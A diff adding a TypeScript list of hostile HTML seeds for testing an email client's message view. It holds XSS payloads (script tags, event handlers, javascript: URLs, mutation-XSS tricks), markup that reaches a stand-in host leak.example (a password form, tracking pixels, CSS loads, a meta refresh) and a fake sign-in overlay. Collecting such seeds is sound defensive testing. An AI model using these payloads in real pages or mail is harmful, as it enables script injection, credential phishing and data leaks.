@@ -1,0 +1,43 @@
+/**
+ * Mail that tries to run something, to reach the network, or to take the window
+ * over: our own small set, so that the message view is tried wherever the tests
+ * run.
+ */
+export const seeds: string[] = [
+  "<script>alert(1)</script>",
+  '<img src="x" onerror="alert(1)">',
+  '<body onload="alert(1)">hello</body>',
+  "<svg><script>alert(1)</script></svg>",
+  '<svg onload="alert(1)"></svg>',
+  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<a href="javascript:alert(1)">pay</a>',
+  '<a href=" java&#10;script:alert(1)">pay</a>',
+  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+  '<iframe src="javascript:parent.alert(1)"></iframe>',
+  '<object data="javascript:alert(1)"></object>',
+  '<form action="https://leak.example/form"><input name="password"><button>Sign in</button></form>',
+  '<details open ontoggle="alert(1)">x</details>',
+  '<input autofocus onfocus="alert(1)">',
+  '<video src="https://leak.example/v"></video><audio src="https://leak.example/a" autoplay></audio>',
+  '<img src="https://leak.example/pixel.gif" width="1" height="1">',
+  '<img srcset="https://leak.example/set.png 1x">',
+  "<img src=//leak.example/slashes>",
+  '<table background="https://leak.example/table.png"><tr><td>x</td></tr></table>',
+  '<div style="background: url(https://leak.example/css.png)">x</div>',
+  '<div style="background: u\\72l(https://leak.example/escaped.png)">x</div>',
+  '<style>@import "https://leak.example/import.css";</style><p>x</p>',
+  "<style>@font-face { font-family: f; src: url(https://leak.example/f.woff2) } * { font-family: f }</style><p>x</p>",
+  "<style>body { background: image-set('https://leak.example/set.png' 1x) }</style><p>x</p>",
+  '<link rel="stylesheet" href="https://leak.example/sheet.css"><link rel="prefetch" href="https://leak.example/next">',
+  '<meta http-equiv="refresh" content="0;url=https://leak.example/refresh">',
+  '<base href="https://leak.example/"><img src="relative.png">',
+  '<a href="https://leak.example/top" target="_top">read more</a>',
+  '<a href="https://leak.example/ping" ping="https://leak.example/pinged">read more</a>',
+  '<div style="position: fixed; inset: 0; background: white">Your session has ended. Sign in again.</div>',
+  "<style>p::after { content: '</style><img src=x onerror=alert(1)>' }</style><p>x</p>",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  "<template><script>alert(1)</script></template>",
+  '<button popovertarget="p">x</button><div popover id="p"><img src="https://leak.example/popover"></div>',
+  '<embed src="https://leak.example/embed"><object data="https://leak.example/object"></object>',
+];
